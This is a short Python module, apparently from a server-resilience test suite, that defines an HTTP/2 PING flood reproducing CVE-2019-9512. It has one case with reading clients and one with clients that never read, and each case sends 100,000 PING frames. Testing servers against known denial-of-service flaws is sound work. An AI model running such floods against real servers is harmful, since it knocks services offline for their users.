"""PING, each of which has to be answered, from clients that read and that do not."""

from lib.attack import HTTP2, Attack, Case, scale
from lib.frames import PING, frame

CONNECTIONS = 16
SILENT = scale(64, 256)
PIECE = frame(PING, 0, 0, b"flooding")


def read(attacker):
    attacker.pour(CONNECTIONS, lambda at: attacker.http2(at=at), PIECE)


def unread(attacker):
    attacker.pour(SILENT, lambda at: attacker.http2(at=at, receive=4096, reads=False), PIECE)


ATTACK = Attack(
    title="PING flood",
    published="CVE-2019-9512",
    cases=(
        Case("read", HTTP2, read, {"frames": 100_000}),
        Case("unread", HTTP2, unread, {"frames": 100_000}),
    ),
)
